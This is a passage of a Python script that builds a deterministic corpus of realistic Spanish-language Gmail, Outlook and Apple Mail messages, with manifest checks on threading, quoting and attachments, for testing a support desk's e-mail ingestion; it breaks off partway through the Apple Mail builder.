"""Inbound e-mail corpus: real-world-shaped RFC 5322 messages for the support desk.

    python tests/cases/mail_corpus/build_corpus.py           # write NN-*.eml + manifest.json
    python tests/cases/mail_corpus/build_corpus.py --check   # parse them all and check them

Every message imitates what one real client produces (header order, boundaries, transfer
encodings, quoting style, attribution lines); every address is fictional (example.com/.org/
.net, soporte@pulso.example). The files use CRLF line endings and are written as bytes, so
what a test reads is exactly what a mail server would hand over.

Deterministic: no randomness, no clock. Binary attachments (PDF, PNG, OOXML, S/MIME blob)
are built here byte by byte (stored zip/zlib blocks, fixed timestamps), so every regeneration
gives the same bytes and `manifest.json` holds their exact decoded sizes.

`--check` parses each file with `email.parser.BytesParser(policy=email.policy.default)` and
checks it against the manifest: decoded subject, sender, Message-ID, threading headers,
attachments (name, type, exact decoded size), and that each `body_must_contain` phrase is in
the preferred body (plain text if there is one, else the HTML turned into text). Each
`body_must_not_contain` phrase must exist somewhere in the message (quoted history, a
<script>, an attachment …), so that asserting its absence from the ticket is meaningful.
"""

import argparse
import base64
import hashlib
import html
import io
import json
import re
import struct
import sys
import zipfile
import zlib
from collections.abc import Callable
from email import policy
from email.header import decode_header, make_header
from email.message import EmailMessage, MIMEPart
from email.parser import BytesParser
from email.utils import getaddresses
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

HERE = Path(__file__).resolve().parent
MANIFEST = HERE / "manifest.json"
SUPPORT = "soporte@pulso.example"
REFERENCE = re.compile(r"\bPUL-\d+\b", re.IGNORECASE)
SIGNATURE_TYPES = {
    "application/pkcs7-signature",
    "application/x-pkcs7-signature",
    "application/pgp-signature",
}

# --- deterministic bytes ------------------------------------------------------------------------


def pseudo(seed: str, size: int) -> bytes:
    """`size` bytes that look random and are always the same for `seed`."""
    out = b""
    counter = 0
    while len(out) < size:
        out += hashlib.sha256(f"{seed}/{counter}".encode()).digest()
        counter += 1
    return out[:size]


def thread_index(seed: str, replies: int = 0) -> str:
    """Outlook's Thread-Index: 0x01, 5 bytes of FILETIME (0x01DB… in 2025), a 16-byte GUID,
    then 5 bytes per reply — base64 'AQHb…' as in real headers."""
    head = b"\x01\x01\xdb" + pseudo(seed + "/head", 19)
    children = b"".join(pseudo(f"{seed}/reply{n}", 5) for n in range(replies))
    return base64.b64encode(head + children).decode()


def zlib_stored(data: bytes) -> bytes:
    """A zlib stream with one stored (uncompressed) deflate block: same bytes everywhere."""
    assert len(data) < 65536
    block = b"\x01" + struct.pack("<HH", len(data), len(data) ^ 0xFFFF) + data
    return b"\x78\x01" + block + struct.pack(">I", zlib.adler32(data))


def make_png(width: int, height: int) -> bytes:
    """A real PNG: a screenshot-ish white window with a red error bar and a grey button."""

    def pixel(x: int, y: int) -> bytes:
        if y < height // 5:
            return b"\xc6\x28\x28"  # red title bar
        if height // 2 <= y < height // 2 + 4 and width // 3 <= x < 2 * width // 3:
            return b"\x8a\x8a\x8a"  # a button
        return b"\xf4\xf4\xf4"

    rows = b"".join(b"\x00" + b"".join(pixel(x, y) for x in range(width)) for y in range(height))

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib_stored(rows))
        + chunk(b"IEND", b"")
    )


def make_pdf(lines: list[str]) -> bytes:
    """A small but valid PDF 1.4 (one page of Helvetica text, a correct xref table)."""

    def escape(text: str) -> str:
        return text.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")

    shown = " ".join(f"({escape(line)}) '" for line in lines)
    stream = f"BT /F1 11 Tf 72 760 Td 16 TL {shown} ET"
    objects = [
        "<< /Type /Catalog /Pages 2 0 R >>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] "
        "/Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R >>",
        "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
        f"<< /Length {len(stream)} >>\nstream\n{stream}\nendstream",
    ]
    out = b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n"
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += f"{number} 0 obj\n{body}\nendobj\n".encode("latin-1")
    xref = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    out += b"".join(f"{offset:010d} 00000 n \n".encode() for offset in offsets)
    out += f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\n".encode()
    out += f"startxref\n{xref}\n%%EOF\n".encode()
    return out


def make_zip(files: list[tuple[str, str]]) -> bytes:
    """An OOXML container: stored entries, fixed timestamps, so the bytes never change."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
        for name, content in files:
            info = zipfile.ZipInfo(name, date_time=(2025, 3, 6, 17, 42, 0))
            info.create_system = 0
            info.external_attr = 0
            archive.writestr(info, content.encode("utf-8"))
    return buffer.getvalue()


OOXML_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/officeDocument" Target="{target}"/></Relationships>'
)


def make_xlsx() -> bytes:
    types = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
        'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
        '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-'
        'officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/'
        'sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.'
        'worksheet+xml"/></Types>'
    )
    workbook = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
        'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
        '<sheets><sheet name="Cotización" sheetId="1" r:id="rId1"/></sheets></workbook>'
    )
    workbook_rels = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>'
    )
    sheet = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        "<sheetData>"
        '<row r="1"><c r="A1" t="inlineStr"><is><t>Concepto</t></is></c>'
        '<c r="B1" t="inlineStr"><is><t>Cantidad</t></is></c>'
        '<c r="C1" t="inlineStr"><is><t>Precio unitario (USD)</t></is></c></row>'
        '<row r="2"><c r="A2" t="inlineStr"><is><t>Licencia Profesional</t></is></c>'
        '<c r="B2"><v>15</v></c><c r="C2"><v>35</v></c></row>'
        "</sheetData></worksheet>"
    )
    return make_zip(
        [
            ("[Content_Types].xml", types),
            ("_rels/.rels", OOXML_RELS.format(target="xl/workbook.xml")),
            ("xl/workbook.xml", workbook),
            ("xl/_rels/workbook.xml.rels", workbook_rels),
            ("xl/worksheets/sheet1.xml", sheet),
        ]
    )


def make_docx() -> bytes:
    types = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
        'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
        '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-'
        'officedocument.wordprocessingml.document.main+xml"/></Types>'
    )
    document = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        "<w:body><w:p><w:r><w:t>Orden de compra Nº 4471 — revisión 2</w:t></w:r></w:p>"
        "<w:p><w:r><w:t>15 licencias Profesional, entrega inmediata.</w:t></w:r></w:p>"
        "</w:body></w:document>"
    )
    return make_zip(
        [
            ("[Content_Types].xml", types),
            ("_rels/.rels", OOXML_RELS.format(target="word/document.xml")),
            ("word/document.xml", document),
        ]
    )


def make_smime_signature() -> bytes:
    """Looks like Outlook's detached PKCS#7 SignedData (same DER prefix); not verifiable."""
    prefix = bytes.fromhex(
        "308006092a864886f70d010702a0803080020101310f300d0609608648016503040201050030800609"
        "2a864886f70d0107010000a08230"
    )
    return prefix + pseudo("smime-signature", 1800)


# --- encoders -----------------------------------------------------------------------------------


def lines(*parts: str) -> str:
    return "\n".join(parts)


def qp(text: str, charset: str = "utf-8") -> bytes:
    """Quoted-printable body (RFC 2045): lines of at most 76, `=` soft breaks, `=XX` uppercase."""
    out = []
    for line in text.encode(charset).split(b"\n"):
        tokens = []
        for index, byte in enumerate(line):
            last = index == len(line) - 1
            if (33 <= byte <= 126 and byte != 61) or (byte in (9, 32) and not last):
                tokens.append(bytes([byte]))
            else:
                tokens.append(b"=%02X" % byte)
        current = b""
        for item in tokens:
            if len(current) + len(item) > 75:
                out.append(current + b"=")
                current = b""
            current += item
        out.append(current)
    return b"\n".join(out)


def b64(data: bytes, width: int = 76) -> bytes:
    encoded = base64.b64encode(data)
    return b"\n".join(encoded[i : i + width] for i in range(0, len(encoded), width))


Q_SAFE = set(b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789!*+-/")


def _encoded_word(text: str, charset: str, mode: str) -> str:
    data = text.encode(charset)
    if mode == "B":
        return f"=?{charset}?B?{base64.b64encode(data).decode()}?="
    body = "".join(
        chr(byte) if byte in Q_SAFE else "_" if byte == 32 else f"={byte:02X}" for byte in data
    )
    return f"=?{charset}?Q?{body}?="


def ew(text: str, charset: str = "UTF-8", mode: str = "Q", fold: str = "\n ") -> str:
    """RFC 2047 encoded words for `text`: split on character boundaries, each at most 75
    characters, folded with `fold` (whitespace between encoded words is not part of text)."""
    words, chunk = [], ""
    for char in text:
        if chunk and len(_encoded_word(chunk + char, charset, mode)) > 75:
            words.append(_encoded_word(chunk, charset, mode))
            chunk = char
        else:
            chunk += char
    if chunk:
        words.append(_encoded_word(chunk, charset, mode))
    return fold.join(words)


def flowed(text: str, width: int = 72) -> str:
    """format=flowed (RFC 3676) as Thunderbird writes it: soft breaks end in a space."""
    out = []
    for line in text.split("\n"):
        if len(line) <= width or line == "-- ":
            out.append(line)
            continue
        current = ""
        for word in line.split(" "):
            candidate = f"{current} {word}" if current else word
            if current and len(candidate) > width:
                out.append(current + " ")
                current = word
            else:
                current = candidate
        out.append(current)
    return "\n".join(out)


def entity(headers: list[str], body: bytes, header_charset: str = "ascii") -> bytes:
    return ("\n".join(headers) + "\n\n").encode(header_charset) + body


def multipart(
    boundary: str,
    parts: list[bytes],
    *,
    preamble: str = "",
    epilogue: str = "",
    close: bool = True,
) -> bytes:
    """A multipart body: the CRLF before each delimiter belongs to the delimiter."""
    out = preamble.encode()
    for part in parts:
        out += b"--" + boundary.encode() + b"\n" + part + b"\n"
    if close:
        out += b"--" + boundary.encode() + b"--\n" + epilogue.encode()
    return out


def to_crlf(data: bytes) -> bytes:
    return re.sub(rb"\r?\n", b"\r\n", data)


def quote_wrapped(paragraphs: list[str], width: int = 76) -> list[str]:
    """Gmail's plain-text quote: each line '> '-prefixed and hard-wrapped, blank lines '>'."""
    out = []
    for paragraph in paragraphs:
        if not paragraph:
            out.append(">")
            continue
        current = ""
        for word in paragraph.split(" "):
            candidate = f"{current} {word}" if current else word
            if current and len(candidate) + 2 > width:
                out.append(f"> {current}")
                current = word
            else:
                current = candidate
        out.append(f"> {current}")
    return out


def gmail_html(paragraphs: list[str], *, direction: str = "ltr", tail: str = "") -> str:
    """Gmail's HTML: one <div> a line, <div><br></div> for a blank line, all on one line."""
    divs = "".join(
        "<div><br></div>" if not text else f"<div>{html.escape(text, quote=False)}</div>"
        for text in paragraphs
    )
    return f'<div dir="{direction}">{divs}{tail}</div>\n'


def dkim_b(signature: bytes) -> list[str]:
    """A DKIM b= tag folded like Gmail's (decorative: nobody can verify it)."""
    value = "b=" + base64.b64encode(signature).decode()
    chunks = [value[i : i + 70] for i in range(0, len(value), 70)]
    return ["        " + chunks[0]] + ["         " + chunk for chunk in chunks[1:]]


def gmail_alternative(boundary: str, plain: str, html_text: str) -> bytes:
    return multipart(
        boundary,
        [
            entity(
                [
                    'Content-Type: text/plain; charset="UTF-8"',
                    "Content-Transfer-Encoding: quoted-printable",
                ],
                qp(plain),
            ),
            entity(
                [
                    'Content-Type: text/html; charset="UTF-8"',
                    "Content-Transfer-Encoding: quoted-printable",
                ],
                qp(html_text),
            ),
        ],
    )


def attachment(filename, content_type: str, data: bytes, *, inline: bool = False) -> dict:
    return {"filename": filename, "content_type": content_type, "size": len(data), "inline": inline}


# --- the messages -------------------------------------------------------------------------------

# A message of the corpus: its raw bytes and its manifest entry.
Builder = Callable[[], tuple[bytes, dict[str, Any]]]

MESSAGES: list[Builder] = []


def message(function: Builder) -> Builder:
    MESSAGES.append(function)
    return function


def entry(**fields: Any) -> dict[str, Any]:
    """A manifest entry, keys in the documented order."""
    base: dict[str, Any] = {
        "file": None,
        "client": None,
        "shape": None,
        "kind": None,
        "expected_outcome": None,
        "message_id": None,
        "sender": None,
        "sender_name": "",
        "subject": None,
        "thread_ref": {"in_reply_to": None, "subject_reference": None},
        "requires_ticket": None,
        "body_must_contain": [],
        "body_must_not_contain": [],
        "attachments": [],
        "notes": "",
    }
    base.update(fields)
    if base["subject"] is not None:
        match = REFERENCE.search(base["subject"])
        base["thread_ref"]["subject_reference"] = match.group(0).upper() if match else None
    return base


LUCIA_NEW_ID = "CAJx8fWq3nT5hP2mVvK0bQ7rL9yE4u_sDc1ZaX6gN+H8oRkTi3w@mail.gmail.com"


@message
def gmail_new():
    subject = "Facturación de febrero: no puedo descargar los PDF"
    plain = lines(
        "Hola, buenos días:",
        "",
        "Desde el viernes no puedo descargar las facturas de febrero desde el portal. Cuando "
        "hago clic en «Descargar PDF» aparece el mensaje «Documento no disponible» y la "
        "descarga nunca empieza.",
        "",
        "Ya probé con Chrome y con Firefox, borré la caché y el resultado es el mismo. "
        "Necesito los comprobantes para el cierre contable de febrero, así que les "
        "agradecería una solución pronto.",
        "",
        "Mi número de cliente es 20-4471. Muchas gracias.",
        "",
        "-- ",
        "Lucía Torres",
        "Jefa de Administración — Panadería La Espiga",
        "Tel. +57 601 555 0142",
        "",
    )
    signature = (
        '<br clear="all"><div><br></div><span class="gmail_signature_prefix">-- </span><br>'
        '<div dir="ltr" class="gmail_signature" data-smartmail="gmail_signature"><div dir="ltr">'
        "<b>Lucía Torres</b><div>Jefa de Administración — Panadería La Espiga</div>"
        '<div>Tel. <a href="tel:+576015550142">+57 601 555 0142</a></div></div></div>'
    )
    html_text = gmail_html(plain.split("-- ")[0].rstrip("\n").split("\n"), tail=signature)
    boundary = "0000000000007d3c2a062f5b1e4c"
    headers = [
        "DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed;",
        "        d=example.com; s=20230601; t=1741011164; x=1741615964; darn=pulso.example;",
        "        h=to:subject:message-id:date:from:mime-version:from:to:cc:subject",
        "         :date:message-id:reply-to;",
        f"        bh={base64.b64encode(pseudo('01-bh', 32)).decode()};",
        *dkim_b(pseudo("01-b", 256)),
        "MIME-Version: 1.0",
        f"From: {ew('Lucía Torres')} <lucia.torres@example.com>",
        "Date: Mon, 3 Mar 2025 09:12:44 -0500",
        "X-Gm-Features: AQ5f1JrVq2pTnW8xYcLm3bZk0sDe9uHgR4aPiN7oFvE6jKtB1wMy5l",
        f"Message-ID: <{LUCIA_NEW_ID}>",
        f"Subject: {ew(subject)}",
        f"To: {SUPPORT}",
        f'Content-Type: multipart/alternative; boundary="{boundary}"',
    ]
    raw = entity(headers, gmail_alternative(boundary, plain, html_text))
    return raw, entry(
        file="01-gmail-new-plain-html.eml",
        client="Gmail web",
        shape="multipart/alternative (text/plain + text/html), UTF-8 quoted-printable",
        kind="new",
        expected_outcome="created",
        message_id=LUCIA_NEW_ID,
        sender="lucia.torres@example.com",
        sender_name="Lucía Torres",
        subject=subject,
        body_must_contain=[
            "no puedo descargar las facturas de febrero desde el portal",
            "aparece el mensaje «Documento no disponible»",
            "Necesito los comprobantes para el cierre contable de febrero",
            "Mi número de cliente es 20-4471.",
        ],
        notes=(
            "Gmail signature: '-- ' delimiter (QP '--=20') in the plain part, "
            "gmail_signature div in the HTML. DKIM-Signature is decorative (not verifiable). "
            "Ingest before 02: 02's References carries this Message-ID."
        ),
    )


@message
def gmail_reply():
    subject = "Re: Facturación de febrero: no puedo descargar los PDF"
    new_text = [
        "Gracias por la respuesta rápida. Probé el enlace alternativo que me enviaron y ahora "
        "sí pude descargar las facturas 0001-00004471 a 0001-00004480.",
        "",
        "Solo falta la nota de crédito del 14 de febrero, que sigue sin aparecer en el "
        "listado. ¿Pueden revisarla?",
        "",
        "Saludos,",
        "Lucía",
    ]
    quoted = [
        "Hola Lucía:",
        "",
        "Gracias por escribirnos. Mientras corregimos el error del portal, puede descargar sus "
        "facturas desde este enlace alternativo:",
        "https://portal.pulso.example/facturas?cliente=20-4471",
        "",
        "Quedamos atentos.",
        "Equipo de Soporte Pulso",
    ]
    attribution = "El lun, 3 mar 2025 a las 10:15, Soporte Pulso <soporte@pulso.example> escribió:"
    plain = lines(
        *new_text,
        "",
        attribution,
        "",
        *quote_wrapped(quoted),
        "",
    )
    quote_html = (
        '<br><div class="gmail_quote gmail_quote_container"><div dir="ltr" class="gmail_attr">'
        'El lun, 3 mar 2025 a las 10:15, Soporte Pulso &lt;<a href="mailto:soporte@pulso.'
        'example">soporte@pulso.example</a>&gt; escribió:<br></div><blockquote class="gmail_'
        'quote" style="margin:0px 0px 0px 0.8ex;border-left:1px solid rgb(204,204,204);'
        'padding-left:1ex"><div dir="ltr"><div>Hola Lucía:</div><div><br></div><div>Gracias '
        "por escribirnos. Mientras corregimos el error del portal, puede descargar sus facturas "
        'desde este enlace alternativo:</div><div><a href="https://portal.pulso.example/'
        'facturas?cliente=20-4471">https://portal.pulso.example/facturas?cliente=20-4471</a>'
        "</div><div><br></div><div>Quedamos atentos.</div><div>Equipo de Soporte Pulso</div>"
        "</div></blockquote></div>"
    )
    html_text = gmail_html(new_text)[:-1] + quote_html + "\n"
    boundary = "000000000000c41e8f062f5d33a1"
    message_id = "CAJx8fWpR2kM9wYc+Tn7Lq4hVbE0d3sXu5=aJgNzK1oPf6ZrHyQ@mail.gmail.com"
    headers = [
        "MIME-Version: 1.0",
        f"From: {ew('Lucía Torres')} <lucia.torres@example.com>",
        "Date: Mon, 3 Mar 2025 11:47:09 -0500",
        f"Message-ID: <{message_id}>",
        "In-Reply-To: <reply-1.pul-000001@pulso.example>",
        f"References: <{LUCIA_NEW_ID}>",
        " <reply-1.pul-000001@pulso.example>",
        f"Subject: Re: {ew(subject[4:])}",
        f"To: Soporte Pulso <{SUPPORT}>",
        f'Content-Type: multipart/alternative; boundary="{boundary}"',
    ]
    raw = entity(headers, gmail_alternative(boundary, plain, html_text))
    return raw, entry(
        file="02-gmail-reply-quoted.eml",
        client="Gmail web",
        shape="multipart/alternative, UTF-8 quoted-printable; '>' quote + gmail_quote blockquote",
        kind="reply",
        expected_outcome="threaded",
        message_id=message_id,
        sender="lucia.torres@example.com",
        sender_name="Lucía Torres",
        subject=subject,
        thread_ref={"in_reply_to": "<reply-1.pul-000001@pulso.example>"},
        requires_ticket={"reference": "PUL-000001", "customer_email": "lucia.torres@example.com"},
        body_must_contain=[
            "Probé el enlace alternativo que me enviaron",
            "Solo falta la nota de crédito del 14 de febrero",
        ],
        body_must_not_contain=[
            "Mientras corregimos el error del portal",
            "Equipo de Soporte Pulso",
            "escribió:",
        ],
        notes=(
            "No reference in the subject: threading must come from In-Reply-To (the desk's own "
            "outbound id reply-1.pul-000001@pulso.example, which is not an inbound message) or "
            "from References, whose first id is message 01's Message-ID (ingest 01 first, or "
            "create PUL-000001 for lucia.torres@example.com)."
        ),
    )


OUTLOOK_HTML_HEAD = (
    '<html xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:'
    'office" xmlns:w="urn:schemas-microsoft-com:office:word" xmlns:m="http://schemas.microsoft.'
    'com/office/2004/12/omml" xmlns="http://www.w3.org/TR/REC-html40">\n'
    '<head>\n<meta http-equiv="Content-Type" content="text/html; charset={charset}">\n'
    '<meta name="Generator" content="Microsoft Word 15 (filtered medium)">\n'
    '<style><!--\n/* Font Definitions */\n@font-face\n\t{{font-family:"Cambria Math";\n'
    "\tpanose-1:2 4 5 3 5 4 6 3 2 4;}}\n@font-face\n\t{{font-family:Aptos;}}\n"
    "/* Style Definitions */\np.MsoNormal, li.MsoNormal, div.MsoNormal\n"
    '\t{{margin:0cm;\n\tfont-size:12.0pt;\n\tfont-family:"Aptos",sans-serif;\n'
    "\tmso-ligatures:standardcontextual;}}\n"
    'span.EstiloCorreo18\n\t{{mso-style-type:personal-reply;\n\tfont-family:"Aptos",sans-serif;'
    "\n\tcolor:windowtext;}}\n.MsoChpDefault\n\t{{mso-style-type:export-only;\n"
    "\tfont-size:10.0pt;}}\n@page WordSection1\n\t{{size:612.0pt 792.0pt;\n"
    "\tmargin:70.85pt 3.0cm 70.85pt 3.0cm;}}\ndiv.WordSection1\n\t{{page:WordSection1;}}\n"
    '--></style><!--[if gte mso 9]><xml>\n<o:shapedefaults v:ext="edit" spidmax="1026" />\n'
    "</xml><![endif]-->\n</head>\n"
)


def mso_paragraphs(paragraphs: list[str], lang: str = "ES-CO") -> str:
    out = []
    for text in paragraphs:
        inner = html.escape(text, quote=False) if text else "&nbsp;"
        out.append(f'<p class="MsoNormal"><span lang="{lang}">{inner}<o:p></o:p></span></p>\n')
    return "".join(out)


@message
def outlook_desktop_reply():
    subject = "RE: [PUL-000002] Factura duplicada"
    new_text = [
        "Buenas tardes:",
        "",
        "Les escribo de nuevo porque el cargo duplicado todavía aparece en el resumen de la "
        "tarjeta: dos débitos de $ 184.900 con la misma fecha (28/02) y la misma referencia "
        "“FAC-2025-0211”.",
        "",
        "La nota de crédito que mencionaron no llegó… ¿Podrían confirmarme cuándo se hará la "
        "devolución?",
        "",
        "Saludos cordiales,",
        "",
        "Jorge Martínez",
        "Tesorería – Distribuidora Andina S.A.S.",
        "Bogotá, Colombia",
    ]
    history = [
        "Hola Jorge:",
        "",
        "Ya anulamos la factura duplicada y emitimos una nota de crédito por el mismo importe. "
        "En 3 a 5 días hábiles debería verla reflejada.",
        "",
        "Saludos,",
        "Soporte Pulso",
    ]
    header_block = [
        "De: Soporte Pulso <soporte@pulso.example>",
        "Enviado: lunes, 3 de marzo de 2025 11:20",
        "Para: Jorge Martínez <jorge.martinez@example.org>",
        "Asunto: RE: [PUL-000002] Factura duplicada",
    ]
    plain = lines(*new_text, "", "_" * 32, *header_block, "", *history, "")
    html_text = (
        OUTLOOK_HTML_HEAD.format(charset="Windows-1252")
        + '<body lang="ES-CO" link="#467886" vlink="#96607D" style="word-wrap:break-word">\n'
        + '<div class="WordSection1">\n'
        + mso_paragraphs(new_text)
        + '<p class="MsoNormal"><span lang="ES-CO"><o:p>&nbsp;</o:p></span></p>\n'
        + '<div id="mail-editor-reference-message-container">\n'
        + '<div class="MsoNormal" align="center" style="text-align:center">'
        + '<hr size="1" width="98%" align="center"></div>\n'
        + '<div id="divRplyFwdMsg" dir="ltr"><font face="Calibri, sans-serif" '
        + 'style="font-size:11pt" color="#000000"><b>De:</b> Soporte Pulso '
        + "&lt;soporte@pulso.example&gt;<br>\n<b>Enviado:</b> lunes, 3 de marzo de 2025 11:20"
        + "<br>\n<b>Para:</b> Jorge Martínez &lt;jorge.martinez@example.org&gt;<br>\n"
        + "<b>Asunto:</b> RE: [PUL-000002] Factura duplicada</font>\n<div>&nbsp;</div>\n</div>\n"
        + mso_paragraphs(history)
        + "</div>\n</div>\n</body>\n</html>\n"
    )
    outlook_id = "DM6PR11MB41230F6E2B8C4D1A9E3F7B52C1D22@DM6PR11MB4123.namprd11.prod.outlook.com"
    boundary = "_000_DM6PR11MB41230F6E2B8C4D1A9E3F7B52C1D22DM6PR11MB4123namp_"
    headers = [
        "Received: from DM6PR11MB4123.namprd11.prod.outlook.com (2603:10b6:5:1a4::19) by",
        " SA1PR11MB8471.namprd11.prod.outlook.com with HTTPS; Mon, 3 Mar 2025 17:32:19 +0000",
        f"From: {ew('Jorge Martínez', 'iso-8859-1')} <jorge.martinez@example.org>",
        f"To: Soporte Pulso <{SUPPORT}>",
        f"Subject: {subject}",
        "Thread-Topic: [PUL-000002] Factura duplicada",
        f"Thread-Index: {thread_index('pul-000002', replies=2)}",
        "Date: Mon, 3 Mar 2025 17:32:18 +0000",
        f"Message-ID: <{outlook_id}>",
        "Accept-Language: es-CO, en-US",
        "Content-Language: es-CO",
        "X-MS-Has-Attach:",
        "X-MS-TNEF-Correlator:",
        "msip_labels:",
        "x-ms-publictraffictype: Email",
        "x-ms-traffictypediagnostic: DM6PR11MB4123:EE_|SA1PR11MB8471:EE_",
        "x-ms-office365-filtering-correlation-id: 5b9d0c3e-7a41-4f2e-9c6d-08dd5a7f1e23",
        "Content-Type: multipart/alternative;",
        f'\tboundary="{boundary}"',
        "MIME-Version: 1.0",
    ]
    body = multipart(
        boundary,
        [
            entity(
                [
                    'Content-Type: text/plain; charset="windows-1252"',
                    "Content-Transfer-Encoding: quoted-printable",
                ],
                qp(plain, "windows-1252"),
            ),
            entity(
                [
                    'Content-Type: text/html; charset="windows-1252"',
                    "Content-Transfer-Encoding: quoted-printable",
                ],
                qp(html_text, "windows-1252"),
            ),
        ],
    )
    return entity(headers, b"\n" + body), entry(
        file="03-outlook-desktop-reply-cp1252.eml",
        client="Outlook desktop (Microsoft 365, Exchange Online)",
        shape="multipart/alternative, windows-1252 quoted-printable, Thread-Index, no In-Reply-To",
        kind="reply",
        expected_outcome="threaded",
        message_id=outlook_id,
        sender="jorge.martinez@example.org",
        sender_name="Jorge Martínez",
        subject=subject,
        requires_ticket={"reference": "PUL-000002", "customer_email": "jorge.martinez@example.org"},
        body_must_contain=[
            "el cargo duplicado todavía aparece en el resumen de la tarjeta",
            "La nota de crédito que mencionaron no llegó…",
            "¿Podrían confirmarme cuándo se hará la devolución?",
        ],
        body_must_not_contain=[
            "Ya anulamos la factura duplicada y emitimos una nota de crédito",
            "Enviado: lunes, 3 de marzo de 2025 11:20",
            "font-family:Aptos",
        ],
        notes=(
            "No In-Reply-To/References (thread broken): only the [PUL-000002] subject reference "
            "threads it. windows-1252-only characters (… “ ” –) are bytes 0x85/0x93/0x94/0x96: a "
            "desk decoding as ISO-8859-1 gets C1 control characters instead. Plain quote starts "
            "after a line of 32 underscores followed by De:/Enviado:/Para:/Asunto:; the underscore "
            'line itself is part of the separator. HTML: <hr> then <div id="divRplyFwdMsg">.'
        ),
    )


@message
def apple_mail_inline_image():
    subject = "Error al confirmar pedido – adjunto captura"
    image_name = "Captura de pantalla 2025-03-04 a las 10.41.22.png"
    image = make_png(64, 40)
    cid = "B9E4C6A1-2D3F-4A5B-8C7D-9E0F1A2B3C4D"
    text = [
        "Hola,",
        "",
        "Al confirmar un pedido en el portal aparece el error “No se pudo procesar la "
        "solicitud (código 502)” y el pedido queda en estado pendiente.",
        "",
        "Les adjunto una captura de pantalla:",
    ]
    after = [
        "Me pasó con los pedidos 7731 y 7732. ¿Pueden revisarlo?",
        "",
        "Gracias,",
        "Camila Herrera",
        "Compras · Ferretería del Sur",
    ]
    plain = lines(*text, "", f"<{image_name}>", "", *after, "")

    def divs(paragraphs):
        return "".join(
            "<div><br></div>" if not p else f"<div>{html.escape(p, quote=False)}</div>"
            for p in paragraphs
        )

    html_text = (
        '<html aria-label="message body"><head><meta http-equiv="content-type" '
        'content="text/html; charset=utf-8"></head><body style="overflow-wrap: break-word; '
        '-webkit-nbsp-mode: space; line-break: after-white-space;">'
        + html.escape(text[0], quote=False)
        + divs(text[1:])
        + f'<div><br></div><div><img alt="{image_name}" src="cid:{cid}" width="640" '
        + 'height="400"></div><div><br></div>'
        + divs(after)
        + "</body></html>"
    )
    outer = "Apple-Mail=_8B1F2C3D-4E5A-4B6C-9D7E-0F1A2B3C4D5E"
    related = "Apple-Mail=_2A6C9E1F-7B3D-4C8A-A5E2-6F0B1D4C7E93"
    html_related = multipart(
        related,
        [
            entity(
                [
                    "Content-Transfer-Encoding: quoted-printable",
                    "Content-Type: text/html;",
                    "\tcharset=utf-8",
                ],
                qp(html_text),
            ),
            entity(
                [
                    "Content-Transfer-Encoding: base64",
                    "Content-Disposition: inline;",
                    f'\tfilename="{image_name}"',
                    "Content-Type: image/png;",
                    "\tx-unix-mode=0644;",
                    f'\tname="{image_name}"',
                    f"Content-Id: <{cid}>",
                ],
                b64(image),
            ),
        ],
    )
    body = multipart(
        outer,
        [
            entity(
                [
                    "Content-Transfer-Encoding: quoted-printable",
                    "Content-Type: text/plain;",
                    "\tcharset=utf-8",
                ],
                qp(plain),
            ),
            entity(
                [
                    "Content-Type: multipart/related;",
                    '\ttype="text/html";',
                    f'\tboundary="{related}"',
                ],
                b"\n" + html_related,
            ),
        ],
    )
